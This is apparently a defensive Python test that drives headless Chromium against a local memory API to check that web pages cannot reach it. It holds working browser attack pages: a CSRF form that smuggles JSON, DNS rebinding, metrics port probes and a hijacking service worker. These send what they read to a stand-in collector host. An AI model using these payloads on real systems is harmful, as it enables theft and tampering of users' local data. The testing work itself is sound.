#!/usr/bin/env python3
"""Promise: a web page in a browser on this machine can neither write to the memory nor read it.

A real Chromium visits pages of an attacker's web server, with a DNS server of this test: forms, fetch without CORS, beacons, frames, and
DNS rebinding, where the attacker's name leads to 127.0.0.1 after the page has been loaded. It also visits a page of a program that had
the API's address earlier, and leaves a service worker in the browser.

usage: browser.py CHROMIUM     runs as root, with the API on 127.0.0.1:8003, in a machine without valuable data; /etc/resolv.conf must
name 127.0.0.1
"""

import http.client
import http.server
import json
import queue
import socketserver
import struct
import subprocess
import sys
import tempfile
import threading
import uuid
from contextlib import closing

API = ("127.0.0.1", 8003)
# The ports of Prometheus and its exporter in docker-compose.yml.
METRICS = (6668, 6669)
# The address of the attacker's server before the rebinding, and of the program that has the API's address before NEXUS. The API has
# this port only on 127.0.0.1.
BEFORE = "127.0.0.66"
# With this flag the browser finds that program at the API's address.
WITHOUT_NEXUS = f"--host-resolver-rules=MAP 127.0.0.1:8003 {BEFORE}:8003"
RECENT = "/memory/episodic/recent"
COLLECT = "http://collect.example:9666"
MARK = f"written-by-a-page-{uuid.uuid4().hex}"
NOTE = json.dumps({"action_type": "note", "action_details": {"content": MARK}})

reports = queue.Queue()
rebound = threading.Event()


class Names(socketserver.BaseRequestHandler):
    """A DNS server: every name is 127.0.0.1, but rebind.example is the attacker's address until the rebinding. The TTL is 0."""

    def handle(self):
        query, sock = self.request
        labels, at = [], 12
        while query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode())
            at += query[at] + 1
        kind = struct.unpack("!H", query[at + 1 : at + 3])[0]
        is_before = ".".join(labels) == "rebind.example" and not rebound.is_set()
        address = bytes(map(int, (BEFORE if is_before else "127.0.0.1").split(".")))
        answers = struct.pack("!HHHIH", 0xC00C, 1, 1, 0, 4) + address if kind == 1 else b""
        sock.sendto(query[:2] + struct.pack("!HHHHH", 0x8180, 1, bool(answers), 0, 0) + query[12 : at + 5] + answers, self.client_address)


class Attacker(http.server.BaseHTTPRequestHandler):
    """Serves the pages, and collects their reports."""

    def do_GET(self):
        path = self.path.partition("?")[0]
        page = PAGES.get(path)
        self.answer(200 if page else 404, (page or "").encode(), "text/javascript" if path.endswith(".js") else "text/html")

    def do_POST(self):
        reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.answer(200, b"")

    def answer(self, status, body, kind="text/html"):
        self.send_response(status)
        self.send_header("Content-Type", f"{kind}; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("X-Attacker", "yes")
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


SAY = f"const say = what => fetch('{COLLECT}/', {{method: 'POST', mode: 'no-cors', body: JSON.stringify(what)}});"
TARGET = "http://127.0.0.1:8003"
# A form of type text/plain sends name=value. The name ends inside a JSON string, so the whole body is JSON.
FORM_NAME = NOTE[:-2] + ',"x":"'
PAGES = {
    "/write": f"""<!doctype html><meta charset=utf-8>
<form id=f method=post enctype=text/plain target=t action="{TARGET}/memory/action"><input name='{FORM_NAME}' value='"}}}}'></form><iframe name=t></iframe>
<script>{SAY}
const note = {json.dumps(NOTE)}, to = path => '{TARGET}' + path;
const send = (path, body, headers) => fetch(to(path), {{method: 'POST', mode: 'no-cors', body, headers}}).then(() => 'sent', error => String(error));
addEventListener('load', async () => {{
  const done = {{}};
  done.text = await send('/memory/action', note, {{'Content-Type': 'text/plain'}});
  done.blob = await send('/memory/action', new Blob([note]));
  done.form = await send('/memory/import', new URLSearchParams([['a', 'b']]));
  done.import = await send('/memory/import', JSON.stringify({{content: {json.dumps(MARK)}}}) + '\\n');
  done.clear = await send('/memory/working/clear', '');
  done.beacon = navigator.sendBeacon(to('/memory/action'), note);
  done.cors = await fetch(to('/memory/action'), {{method: 'POST', body: note, headers: {{'Content-Type': 'application/json'}}}}).then(() => 'sent', () => 'refused');
  done.read = await fetch(to('/memory/export')).then(answer => answer.text(), () => 'refused');
  const submitted = new Promise(done => document.querySelector('iframe').addEventListener('load', done, {{once: true}}));
  f.submit();
  await submitted;
  await say({{page: 'write', done}});
}});
</script>""",
    "/frame": f"""<!doctype html><meta charset=utf-8><iframe src="{TARGET}/"></iframe>
<script>{SAY} addEventListener('load', () => say({{page: 'frame', frames: frames.length}}));</script>""",
    # Every way in which a page can make its browser connect to a port; each of these names is 127.0.0.1.
    "/metrics": f"""<!doctype html><meta charset=utf-8><body><script>{SAY}
const ports = {list(METRICS)}, names = ['127.0.0.1', 'localhost', 'evil.example'], done = {{}};
(async () => {{
  for (const port of ports) for (const name of names) {{
    const url = `http://${{name}}:${{port}}/api/v1/query?query=up`, of = part => `${{name}}:${{port}} ${{part}}`;
    done[of('fetch')] = await fetch(url).then(() => 'sent', () => 'refused');
    done[of('no-cors')] = await fetch(url, {{mode: 'no-cors', method: 'POST', body: 'query=up'}}).then(() => 'sent', () => 'refused');
    for (const tag of ['iframe', 'img', 'script']) {{
      const part = document.createElement(tag);
      const over = new Promise(done => {{ part.onload = part.onerror = done; setTimeout(done, 5000); }});
      part.src = url;
      document.body.append(part);
      await over;
    }}
  }}
  await say({{page: 'metrics', done}});
}})();</script>""",
    # Wait until another server answers under the attacker's name.
    "/rebind": f"""<!doctype html><meta charset=utf-8><script>{SAY}
(async () => {{
  await say({{page: 'loaded'}});
  for (;;) {{
    const answer = await fetch('/memory/export', {{cache: 'no-store'}}).catch(() => null);
    if (answer && !answer.headers.has('X-Attacker')) {{
      const read = await answer.text();
      const wrote = await fetch('/memory/action', {{method: 'POST', body: {json.dumps(NOTE)}, headers: {{'Content-Type': 'application/json'}}}});
      await say({{page: 'rebind', status: answer.status, read, wrote: wrote.status}});
      return;
    }}
    await new Promise(done => setTimeout(done, 100));
  }}
}})();</script>""",
    # A service worker at the API's address, which intercepts every later visit.
    "/before": f"""<!doctype html><meta charset=utf-8><script>{SAY}
navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => say({{page: 'before'}}));</script>""",
    # Every way in which a worker can read what the owner opens, or a page that it shows instead can send requests.
    "/worker.js": f"""{SAY}
const text = answer => answer.then(answer => answer.text(), String);
const asks = async () => {{
  const post = (path, body) => text(fetch(path, {{method: 'POST', body, headers: {{'Content-Type': 'application/json'}}}}));
  return {{read: await text(fetch('{RECENT}')), found: await post('/memory/search', '{{"query": "owner"}}'), wrote: await post('/memory/action', {json.dumps(NOTE)})}};
}};
const page = `<!doctype html><script>
const say = ${{say}}, text = ${{text}};
addEventListener('load', async () => {{
  const asked = await (${{asks}})(), opened = open('{RECENT}');
  while (opened.location.href === 'about:blank' || opened.document.readyState !== 'complete') await new Promise(done => setTimeout(done, 50));
  await say({{page: 'shown', asked: {{...asked, opened: opened.document.body.innerText}}}});
}});
</script>`;
const show = async event => {{
  await say({{page: 'worker', asked: {{preloaded: await text(event.preloadResponse), passed: await text(fetch(event.request)), ...await asks()}}}});
  return new Response(page, {{headers: {{'Content-Type': 'text/html'}}}});
}};
let shown = false;
addEventListener('install', () => skipWaiting());
addEventListener('activate', event => event.waitUntil(registration.navigationPreload.enable()));
addEventListener('fetch', event => {{
  if (event.request.mode !== 'navigate' || shown) return;
  shown = true;
  event.respondWith(show(event));
}});""",
}


def expect(holds, what):
    if not holds:
        raise SystemExit(f"browser.py: {what}")


def ask(method, path, body=None):
    connection = http.client.HTTPConnection(*API, timeout=30)
    connection.request(method, path, body, {"Content-Type": "application/json"})
    answer = connection.getresponse()
    return answer.status, answer.read().decode(), answer


def refused():
    """Returns the number of requests that the API has answered with 403."""
    return sum(int(line.split()[-1]) for line in ask("GET", "/metrics")[1].splitlines() if 'status="403"' in line)


def serve(server):
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def command(chromium, profile, *more):
    """Returns the command of a headless browser with this profile."""
    return [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", "--disable-dev-shm-usage", "--disable-popup-blocking", f"--user-data-dir={profile}",
            # Switches off Chromium's own protection of loopback addresses, which other browsers lack.
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,AsyncDns", *more]


class Visit:
    """A browser at a page, until the page has reported. With a given profile, the browser keeps its state."""

    def __init__(self, chromium, url, *more, profile=None):
        self.own = tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True)
        flags = command(chromium, profile or self.own.name, "--remote-debugging-port=0", *more)
        self.process = subprocess.Popen([*flags, url], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def __enter__(self):
        return self

    def reported(self, page):
        while True:
            report = reports.get(timeout=180)
            if report["page"] == page:
                return report

    def __exit__(self, *_):
        self.process.terminate()
        self.process.wait(60)
        self.own.cleanup()


def no_page_writes(chromium):
    before = refused()
    with Visit(chromium, "http://evil.example:9666/write") as visit:
        done = visit.reported("write")["done"]
    expect(done["read"] == "refused" and done["cors"] == "refused", f"a page read an answer: {done}")
    expect(MARK not in ask("GET", "/memory/export")[1], "a page of another site stored an episode")
    # Text, Blob, beacon, form and JSON to /memory/action; form and lines to /memory/import; clear; read: all must have arrived.
    expect(refused() >= before + 9, f"of the attack only {refused() - before} requests came: {done}")
    items = json.loads(ask("GET", "/memory/working/items")[1])
    expect("kept" in json.dumps(items), f"a page of another site cleared the working memory: {items}")


def no_page_frames(chromium):
    with Visit(chromium, "http://evil.example:9666/frame") as visit:
        expect(visit.reported("frame")["frames"] == 1, "the frame itself is not there")
    answer = ask("GET", "/")[2]
    expect(answer.getheader("X-Frame-Options") == "DENY" and "frame-ancestors 'none'" in answer.getheader("Content-Security-Policy", ""), "the answer may be framed")


def no_name_is_rebound(chromium):
    before = serve(http.server.ThreadingHTTPServer((BEFORE, 8003), Attacker))
    with Visit(chromium, "http://rebind.example:8003/rebind") as visit:
        visit.reported("loaded")
        rebound.set()
        before.shutdown()
        before.server_close()
        report = visit.reported("rebind")
    expect((report["status"], report["wrote"]) == (403, 403), f"under another name the page was answered {report}")
    expect('"code":"host"' in report["read"] and "of-the-owner" not in report["read"], f"the page read {report['read'][:200]}")
    expect(MARK not in ask("GET", "/memory/export")[1], "a rebound page stored an episode")


def no_page_of_an_earlier_program_reads(chromium):
    before = serve(http.server.ThreadingHTTPServer((BEFORE, 8003), Attacker))
    with tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True) as profile:
        with Visit(chromium, "http://127.0.0.1:8003/before", WITHOUT_NEXUS, profile=profile) as visit:
            visit.reported("before")
        with Visit(chromium, f"http://127.0.0.1:8003{RECENT}", profile=profile) as visit:
            asked = [pair for page in ("worker", "shown") for pair in visit.reported(page)["asked"].items()]
    for way, said in asked:
        expect('"code":"foreign_origin"' in said, f"{way}: a page of an earlier program was answered {said[:200]}")
    expect(MARK not in ask("GET", "/memory/export")[1], "a page of an earlier program stored an episode")
    before.shutdown()
    before.server_close()


def the_owner_sees_that_it_runs(chromium):
    with tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True) as profile:
        for path, words in ("/", "<h1>NEXUS API"), ("/health", '"status"'), (RECENT, '"code":"foreign_origin"'):
            flags = command(chromium, profile, "--dump-dom", f"http://127.0.0.1:8003{path}")
            seen = subprocess.run(flags, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=180, check=True, text=True).stdout
            expect(words in seen, f"at {path} the owner sees {seen[:200]}")


class Metrics(http.server.ThreadingHTTPServer):
    """Takes the place of Prometheus, and counts connections."""

    came = 0

    def process_request(self, *request):
        Metrics.came += 1
        super().process_request(*request)


def no_page_reaches_metrics(chromium):
    servers = [serve(Metrics(("127.0.0.1", port), Attacker)) for port in METRICS]
    for port in METRICS:
        with closing(http.client.HTTPConnection("127.0.0.1", port, timeout=30)) as connection:
            connection.request("GET", "/write")
            expect(connection.getresponse().status == 200, f"nobody answers on {port}")
    Metrics.came = 0
    with Visit(chromium, "http://evil.example:9666/metrics") as visit:
        done = visit.reported("metrics")["done"]
    expect(Metrics.came == 0 and set(done.values()) == {"refused"}, f"{Metrics.came} connections of a page came: {done}")
    for server in servers:
        server.shutdown()
        server.server_close()


def main():
    chromium = sys.argv[1]
    serve(socketserver.UDPServer(("127.0.0.1", 53), Names))
    serve(http.server.ThreadingHTTPServer(("127.0.0.1", 9666), Attacker))
    own = json.dumps({"action_type": "note", "action_details": {"content": f"of-the-owner {uuid.uuid4().hex}"}})
    expect(ask("POST", "/memory/action", own)[0] == 200, "the owner cannot store")
    expect(ask("POST", "/memory/working/add?episode_id=kept", "[]")[0] == 200, "the owner cannot add to the working memory")
    for check in no_page_writes, no_page_frames, no_name_is_rebound, no_page_of_an_earlier_program_reads, the_owner_sees_that_it_runs, no_page_reaches_metrics:
        check(chromium)
        print(f"ok {check.__name__}")
    print("6 passed, 0 failed")


if __name__ == "__main__":
    main()
